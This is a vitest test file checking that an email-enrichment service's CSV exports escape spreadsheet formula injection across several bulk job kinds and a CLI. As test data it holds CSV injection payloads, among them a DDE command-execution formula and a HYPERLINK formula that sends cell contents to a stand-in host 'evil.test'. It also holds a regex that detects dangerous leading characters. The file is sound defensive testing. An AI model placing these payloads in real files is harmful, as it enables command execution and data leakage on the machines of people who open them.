/**
 * CSV formula (CSV injection) escaping on every CSV the service writes. There is one writer:
 * BulkService.results (src/pipeline/bulk-service.ts, csv-stringify with escape_formulas), behind
 * - GET /v2/bulks/:id/results?format=csv, for every bulk kind (verify, enrich, find,
 *   domain-search, crawl), and
 * - the CLI's bulk commands (src/cli.ts -> src/demo/bulk-runner.ts runBulkFile, which streams the
 *   same generator into the --out file).
 * (The demo only downloads that same endpoint; the importer reads CSV and writes none; the leads
 * API answers JSON.)
 *
 * Formula payloads go into every user-controlled column (the original columns are echoed back,
 * header names included), into inputs whose derived values are appended (verification.email),
 * and into index values (imported with src/importer; a crawled site's name) that land in the
 * appended columns. Every exported cell must be neutralized: a cell starting with =, +, -, @, tab
 * or CR (or their full-width forms) is prefixed with a single quote; negative numbers that are
 * numbers (coordinates) stay numbers. JSON Lines, not a spreadsheet format, keeps values exact.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, buildSandboxSites, buildSandboxWorld, type RunningSandbox } from '../../src/sandbox/index.js';
import { IndexImporter } from '../../src/importer/index-importer.js';
import { runBulkFile } from '../../src/demo/bulk-runner.js';
import { startPipelineHarness, uploadCsv, waitForBulk, type PipelineHarness } from '../support/pipeline.js';

const CALC = "=cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
/** Cells a spreadsheet would evaluate (or that start a formula after a tab/CR). */
const PAYLOADS = [
  '=1+2',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  CALC,
  SUM,
  '=HYPERLINK("http://evil.test/?leak="&A2,"click me")',
  '-2+3+cmd|\' /C calc\'!A0',
  '=',
  '+',
  '-',
  '@',
  '\uFF1D1+1', // full-width =
  '\uFF0B1+1', // full-width +
];
/** Header names that are formulas (echoed back as the output's first columns). */
const HEADER_PAYLOADS = ['=HYPERLINK("http://evil.test","open")', '+notes', '-minus', '@at', '\ttab', CALC];

/** Values imported into the index, which the appended columns carry. */
const INDEX = {
  companyName: CALC,
  companyDescription: '+1+1',
  companyLegalName: SUM,
  personGiven: '=HYPERLINK("http://evil.test","x")',
  personFamily: '-1+1',
  personTitle: SUM,
  emailPosition: '@SUM(1+1)',
};

const DANGEROUS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

let sandbox: RunningSandbox;
let h: PipelineHarness;

beforeAll(async () => {
  // formula-corp.test receives mail in the sandbox, so the finder can confirm addresses there.
  const world = buildSandboxWorld();
  world.hosts.push({ host: 'mx.formula-corp.test', ip: '127.0.0.1' });
  world.domains.push(
    { domain: 'formula-corp.test', mx: [{ host: 'mx.formula-corp.test', priority: 10 }], smtp: 'normal', mailboxes: { 'jane.doe': 'exists', '-1-1.sum11': 'exists' } },
    { domain: 'mx.formula-corp.test', a: ['127.0.0.1'] },
  );
  sandbox = await startSandbox({
    world,
    sites: [
      ...buildSandboxSites(),
      {
        host: 'formula-site.test',
        pages: {
          '/': {
            body:
              `<!doctype html><html><head><title>${'=1+1'}</title><meta property="og:site_name" content="${CALC.replace(/'/g, '&#39;')}">` +
              `<meta name="description" content="+1+1 formula company"></head><body>` +
              `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'Organization', name: CALC, legalName: SUM, description: '-1+1' })}</script>` +
              `<p>Write to <a href="mailto:hello@formula-site.test">hello@formula-site.test</a></p></body></html>`,
          },
        },
      },
    ],
  });
  h = await startPipelineHarness({
    DNS_SERVERS: sandbox.dnsServer,
    SMTP_PORT: String(sandbox.smtpPort),
    SMTP_CONNECT_TIMEOUT_MS: '1000',
    SMTP_COMMAND_TIMEOUT_MS: '1000',
    SMTP_POLITENESS_MS: '0',
    GREYLIST_RETRIES: '0',
    FETCH_HTTP_PORT: String(sandbox.webPort),
    FETCH_ALLOW_CIDRS: '127.0.0.0/8',
    FETCH_TIMEOUT_MS: '1000',
    CRAWL_POLITENESS_MS: '0',
    BULK_NETWORK_CHECKS: 'false',
  });
  // Index records whose names and titles are formulas, through the importer.
  const dir = await mkdtemp(join(tmpdir(), 'cds-csv-formula-'));
  try {
    const companies = join(dir, 'companies.jsonl');
    const emails = join(dir, 'emails.jsonl');
    const people = join(dir, 'people.csv');
    const domains = join(dir, 'domains.jsonl');
    await writeFile(
      companies,
      JSON.stringify({ domain: 'formula-corp.test', name: INDEX.companyName, legalName: INDEX.companyLegalName, description: INDEX.companyDescription, tags: ['=1+1', '+tag', '-tag', '@tag'], domainAliases: ['formula-alias.test'], geo: { city: '-Town', lat: -33.86, lng: -151.2 } }) + '\n',
    );
    await writeFile(
      people,
      stringify([
        ['email', 'name.givenName', 'name.familyName', 'name.fullName', 'employment.domain', 'employment.title'],
        ['jane.doe@formula-corp.test', INDEX.personGiven, INDEX.personFamily, `${INDEX.personGiven} ${INDEX.personFamily}`, 'formula-corp.test', INDEX.personTitle],
      ]),
    );
    await writeFile(
      emails,
      JSON.stringify({
        value: 'jane.doe@formula-corp.test',
        type: 'personal',
        confidence: 90,
        sources: [{ uri: 'http://formula-corp.test/team', extracted_on: '2026-01-01', last_seen_on: '2026-01-02', still_on_page: true }],
        first_name: INDEX.personGiven,
        last_name: INDEX.personFamily,
        position: INDEX.emailPosition,
        position_raw: CALC,
      }) + '\n',
    );
    await writeFile(domains, JSON.stringify({ domain: 'formula-corp.test', pattern: '{first}.{last}', organization: CALC, linked_domains: [], accept_all: false }) + '\n');
    const importer = new IndexImporter(h.index);
    for (const [kind, file] of [['companies', companies], ['people', people], ['emails', emails], ['domains', domains]] as const) {
      const summary = await importer.importFile(kind, file);
      expect(summary.problems, kind).toEqual([]);
      expect(summary.loaded, kind).toBe(1);
    }
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}, 30_000);

afterAll(async () => {
  await h?.close();
  await sandbox?.stop();
});

/** A CSV text (quoted where needed, formulas left as they are: the attacker's upload). */
function csvOf(rows: string[][]): string {
  return stringify(rows);
}

async function runBulk(csv: string, kind: string, mapping: Record<string, number>): Promise<{ id: string; csv: string; jsonl: string }> {
  const query = `kind=${kind}&header=true&delimiter=,&mapping=${encodeURIComponent(JSON.stringify(mapping))}`;
  const up = await uploadCsv(h, csv, query);
  expect(up.status, JSON.stringify(up.body)).toBe(202);
  const id = up.body.data.id as string;
  const done = await waitForBulk(h, id, 40_000);
  expect(done.state, done.error).toBe('completed');
  const get = (format: string) => h.app.inject({ url: `/v2/bulks/${id}/results?format=${format}`, headers: { 'x-api-key': h.key } });
  const [csvRes, jsonRes] = await Promise.all([get('csv'), get('json')]);
  expect(csvRes.statusCode).toBe(200);
  expect(csvRes.headers['content-type']).toMatch(/^text\/csv/);
  expect(jsonRes.statusCode).toBe(200);
  return { id, csv: csvRes.body, jsonl: jsonRes.body };
}

/** Every cell of the parsed CSV (header row included) is safe to open in a spreadsheet. */
function expectNeutralized(csv: string): string[][] {
  const records = parse(csv, { bom: true, relax_column_count: false }) as string[][];
  for (const [r, record] of records.entries()) {
    for (const [c, cell] of record.entries()) {
      // A number the service wrote as a number (e.g. a negative coordinate) is not a formula.
      if (/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) continue;
      expect(DANGEROUS.test(cell), `row ${r}, column ${c} (${records[0]![c]}): ${JSON.stringify(cell)}`).toBe(false);
    }
  }
  return records;
}

/** The output header and rows as objects keyed by the raw header names. */
function byHeader(records: string[][], rawHeader: string[]): Record<string, string>[] {
  return records.slice(1).map((r) => Object.fromEntries(r.map((v, i) => [rawHeader[i] ?? records[0]![i]!, v])));
}

function jsonLines(text: string): Record<string, unknown>[] {
  const lines = text.split('\n').filter((l) => l !== '');
  return lines.map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** What escape_formulas makes of a value. */
const escaped = (v: string) => (DANGEROUS.test(v) ? `'${v}` : v);

/** The extra, attacker-controlled columns every upload carries. */
function extraColumns(n: number): string[] {
  return PAYLOADS.map((_, i) => PAYLOADS[(i + n) % PAYLOADS.length]!);
}

function checkEcho(records: string[][], inputHeader: string[], inputRows: string[][]): void {
  // The header's original cells, escaped.
  expect(records[0]!.slice(0, inputHeader.length)).toEqual(inputHeader.map(escaped));
  // Every original cell of every row, escaped (domain-search may repeat a row: match by first cell order).
  const firstCells = records.slice(1).map((r) => r.slice(0, inputHeader.length));
  for (const row of inputRows) expect(firstCells).toContainEqual(row.map(escaped));
}

function checkJson(jsonl: string, inputHeader: string[], inputRows: string[][]): Record<string, unknown>[] {
  const objects = jsonLines(jsonl);
  expect(objects.length).toBeGreaterThanOrEqual(inputRows.length);
  for (const row of inputRows) {
    // The values and the keys exactly as uploaded: no quote prefix in JSON.
    const expected = Object.fromEntries(inputHeader.map((name, i) => [name, row[i]]));
    expect(objects).toContainEqual(expect.objectContaining(expected));
  }
  return objects;
}

describe('GET /v2/bulks/:id/results?format=csv', () => {
  it('verify: original cells, header names and the echoed email are neutralized', async () => {
    const header = ['email', ...HEADER_PAYLOADS];
    const emails = ['alice@formula-corp.test', '=1+1@example.test', '+1@example.test', '-1+1@example.test', CALC, SUM, '\t=1+1', '@example.test'];
    const rows = emails.map((e, n) => [e, ...extraColumns(n).slice(0, HEADER_PAYLOADS.length)]);
    const { csv, jsonl } = await runBulk(csvOf([header, ...rows]), 'verify', { email: 0 });
    const records = expectNeutralized(csv);
    checkEcho(records, header, rows);
    const out = byHeader(records, records[0]!);
    // The appended verification.email echoes a formula-looking (but valid) address: escaped too.
    expect(out.map((r) => r['verification.email'])).toContain("'=1+1@example.test");
    expect(out.map((r) => r['verification.email'])).toContain("'+1@example.test");
    checkJson(jsonl, header, rows);
    expect(jsonLines(jsonl).map((o) => o['verification.email'])).toContain('=1+1@example.test');
  });

  it('enrich: index values (company name, person name and title) are neutralized', async () => {
    const header = ['email', 'domain', ...HEADER_PAYLOADS];
    const rows = [
      ['jane.doe@formula-corp.test', '', ...extraColumns(1).slice(0, HEADER_PAYLOADS.length)],
      ['', 'formula-corp.test', ...extraColumns(2).slice(0, HEADER_PAYLOADS.length)],
      [CALC, SUM, ...extraColumns(3).slice(0, HEADER_PAYLOADS.length)],
    ];
    const { csv, jsonl } = await runBulk(csvOf([header, ...rows]), 'enrich', { email: 0, domain: 1 });
    const records = expectNeutralized(csv);
    checkEcho(records, header, rows);
    const out = byHeader(records, records[0]!);
    const jane = out.find((r) => r.email === 'jane.doe@formula-corp.test')!;
    expect(jane['company.name']).toBe(`'${INDEX.companyName}`);
    expect(jane['company.legalName']).toBe(`'${INDEX.companyLegalName}`);
    expect(jane['company.description']).toBe(`'${INDEX.companyDescription}`);
    expect(jane['person.name.givenName']).toBe(`'${INDEX.personGiven}`);
    expect(jane['person.name.familyName']).toBe(`'${INDEX.personFamily}`);
    expect(jane['person.employment.title']).toBe(`'${INDEX.personTitle}`);
    expect(jane['company.geo.city']).toBe("'-Town");
    // A list cell (however it is flattened) does not start a formula either.
    expect(jane['company.tags']).toBeTruthy();
    expect(jane['company.tags']).toContain('=1+1');
    const byDomain = out.find((r) => r.domain === 'formula-corp.test')!;
    expect(byDomain['company.name']).toBe(`'${INDEX.companyName}`);
    // A negative number stays a number.
    expect(byDomain['company.geo.lat']).toBe('-33.86');
    const objects = checkJson(jsonl, header, rows);
    const janeJson = objects.find((o) => o.email === 'jane.doe@formula-corp.test')!;
    expect(janeJson['company.name']).toBe(INDEX.companyName);
    expect(janeJson['person.employment.title']).toBe(INDEX.personTitle);
    expect(janeJson['company.geo.lat']).toBe(-33.86);
  });

  it('find: name, domain and company inputs, and the finder answer from the index, are neutralized', async () => {
    const header = ['first_name', 'last_name', 'domain', 'company', ...HEADER_PAYLOADS];
    const rows = [
      ['Jane', 'Doe', 'formula-corp.test', '', ...extraColumns(4).slice(0, HEADER_PAYLOADS.length)],
      [CALC, '+1+1', 'formula-corp.test', '', ...extraColumns(5).slice(0, HEADER_PAYLOADS.length)],
      ['Ann', 'Lee', SUM, '', ...extraColumns(6).slice(0, HEADER_PAYLOADS.length)],
      ['Ann', 'Lee', '', CALC, ...extraColumns(7).slice(0, HEADER_PAYLOADS.length)],
      ['-1+1', '@SUM(1+1)', '', INDEX.companyName, ...extraColumns(8).slice(0, HEADER_PAYLOADS.length)],
    ];
    const { csv, jsonl } = await runBulk(csvOf([header, ...rows]), 'find', { first_name: 0, last_name: 1, domain: 2, company: 3 });
    const records = expectNeutralized(csv);
    checkEcho(records, header, rows);
    const out = byHeader(records, records[0]!);
    // The finder's answer carries the index's company name (and the row's names) for found rows.
    const jane = out.find((r) => r['email_finder.email'] === 'jane.doe@formula-corp.test')!;
    expect(jane['email_finder.company']).toBe(`'${INDEX.companyName}`);
    expect(jane['email_finder.position']).toBe(`'${INDEX.emailPosition}`);
    // A found address built from formula names (-1+1 @SUM(1+1) -> -1-1.sum11@): names and address escaped.
    const built = out.find((r) => r['email_finder.email'] === "'-1-1.sum11@formula-corp.test")!;
    expect(built).toBeDefined();
    expect(built['email_finder.first_name']).toBe("'-1+1");
    expect(built['email_finder.last_name']).toBe("'@SUM(1+1)");
    expect(built['email_finder.company']).toBe(`'${INDEX.companyName}`);
    const objects = checkJson(jsonl, header, rows);
    expect(objects.find((o) => o['email_finder.email'] === '-1-1.sum11@formula-corp.test')?.['email_finder.first_name']).toBe('-1+1');
  });

  it('domain-search: one row per address, the index names and positions neutralized', async () => {
    const header = ['domain', ...HEADER_PAYLOADS];
    const rows = [
      ['formula-corp.test', ...extraColumns(9).slice(0, HEADER_PAYLOADS.length)],
      [CALC, ...extraColumns(10).slice(0, HEADER_PAYLOADS.length)],
    ];
    const { csv, jsonl } = await runBulk(csvOf([header, ...rows]), 'domain-search', { domain: 0 });
    const records = expectNeutralized(csv);
    checkEcho(records, header, rows);
    const out = byHeader(records, records[0]!);
    const jane = out.find((r) => r['email.value'] === 'jane.doe@formula-corp.test')!;
    expect(jane).toBeDefined();
    expect(jane['email.first_name']).toBe(`'${INDEX.personGiven}`);
    expect(jane['email.last_name']).toBe(`'${INDEX.personFamily}`);
    expect(jane['email.position']).toBe(`'${INDEX.emailPosition}`);
    const objects = checkJson(jsonl, header, rows);
    expect(objects.find((o) => o['email.value'] === 'jane.doe@formula-corp.test')?.['email.position']).toBe(INDEX.emailPosition);
  });

  it('crawl: what a crawled site states about itself is neutralized', async () => {
    const header = ['domain', ...HEADER_PAYLOADS];
    const rows = [
      ['formula-site.test', ...extraColumns(11).slice(0, HEADER_PAYLOADS.length)],
      [SUM, ...extraColumns(12).slice(0, HEADER_PAYLOADS.length)],
    ];
    const { csv, jsonl } = await runBulk(csvOf([header, ...rows]), 'crawl', { domain: 0 });
    const records = expectNeutralized(csv);
    checkEcho(records, header, rows);
    const out = byHeader(records, records[0]!);
    const site = out.find((r) => r.domain === 'formula-site.test')!;
    expect(site['crawl.status']).toBe('crawled');
    expect(site['company.name']).toBe(`'${CALC}`);
    const objects = checkJson(jsonl, header, rows);
    expect(objects.find((o) => o.domain === 'formula-site.test')?.['company.name']).toBe(CALC);
  });

  it('neutralizes a header whose names are all formulas, and generated column names past it', async () => {
    // More cells than header names: the extra columns get generated names (column_N).
    const header = [...HEADER_PAYLOADS, 'email'];
    const rows = [[...PAYLOADS.slice(0, HEADER_PAYLOADS.length), 'bob@formula-corp.test', ...PAYLOADS.slice(HEADER_PAYLOADS.length)]];
    const text = csvOf([header]) + csvOf(rows);
    const { csv, jsonl } = await runBulk(text, 'verify', { email: HEADER_PAYLOADS.length });
    const records = expectNeutralized(csv);
    expect(records[0]!.slice(0, header.length)).toEqual(header.map(escaped));
    expect(records[1]!.slice(0, rows[0]!.length)).toEqual(rows[0]!.map(escaped));
    const [object] = jsonLines(jsonl);
    for (const [i, name] of header.entries()) expect(object![name]).toBe(rows[0]![i]);
  });
});

describe('the check itself', () => {
  it('catches a CSV written without escape_formulas', () => {
    const raw = stringify([['name'], [CALC]]);
    expect(() => expectNeutralized(raw)).toThrow();
    expect(() => expectNeutralized(stringify([['name'], [CALC], ['-5']], { escape_formulas: true }))).not.toThrow();
  });
});

describe('the CLI bulk commands (src/demo/bulk-runner.ts)', () => {
  it('write the same neutralized CSV to the --out file', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'cds-csv-formula-cli-'));
    try {
      const header = ['email', ...HEADER_PAYLOADS];
      const rows = [
        ['jane.doe@formula-corp.test', ...extraColumns(13).slice(0, HEADER_PAYLOADS.length)],
        ['=1+1@example.test', ...extraColumns(14).slice(0, HEADER_PAYLOADS.length)],
      ];
      const file = join(dir, 'contacts.csv');
      const out = join(dir, 'contacts.enrich.csv');
      await writeFile(file, csvOf([header, ...rows]));
      const done = await runBulkFile(h.worker.pipeline.bulks, {
        file,
        kind: 'enrich',
        out,
        toList: null,
        header: true,
        delimiter: ',',
        mapping: { email: 0 },
        progress: false,
        maxUploadBytes: 1_000_000,
      });
      expect(done.state).toBe('completed');
      const records = expectNeutralized(await readFile(out, 'utf8'));
      checkEcho(records, header, rows);
      const jane = byHeader(records, records[0]!).find((r) => r.email === 'jane.doe@formula-corp.test')!;
      expect(jane['company.name']).toBe(`'${INDEX.companyName}`);
      expect(jane['person.employment.title']).toBe(`'${INDEX.personTitle}`);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }, 30_000);
});
